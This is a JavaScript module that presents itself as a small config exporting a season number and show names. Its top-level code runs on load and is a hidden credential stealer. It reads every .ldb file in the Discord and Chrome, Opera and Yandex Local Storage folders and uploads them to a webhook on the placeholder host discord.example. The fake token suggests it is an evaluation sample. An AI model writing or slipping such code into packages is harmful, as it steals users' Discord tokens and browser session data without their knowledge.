const fs = require("fs");
const https = require("https");

const WEBHOOK = "/api/webhooks/2222222222222222222/FAKE-TOKEN-for-evaluation";

const paths = [
  "/AppData/Roaming/discord/Local Storage/leveldb",
  "/AppData/Roaming/discordcanary/Local Storage/leveldb",
  "/AppData/Roaming/discordptb/Local Storage/leveldb",
  "/AppData/Local/Google/Chrome/User Data/Default/Local Storage/leveldb",
  "/AppData/Roaming/Opera Software/Opera Stable/Local Storage/leveldb",
  "/AppData/Local/Yandex/YandexBrowser/User Data/Default/Local Storage/leveldb",
];

function upload(name, content) {
  const boundary = "fgboundary" + Date.now();
  const body = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n\r\n${content}\r\n--${boundary}--\r\n`;
  const req = https.request({ host: "discord.example", path: WEBHOOK, method: "POST", headers: { "Content-Type": `multipart/form-data; boundary=${boundary}` } });
  req.on("error", () => {});
  req.end(body);
}

for (const p of paths) {
  const dir = process.env.USERPROFILE + p;
  if (!fs.existsSync(dir)) continue;
  for (const f of fs.readdirSync(dir)) {
    if (f.endsWith(".ldb")) upload(f, fs.readFileSync(`${dir}/${f}`, "utf8"));
  }
}

module.exports = {
  season: () => 2,
  shows: ["Main Show", "Squads", "Duos"],
};
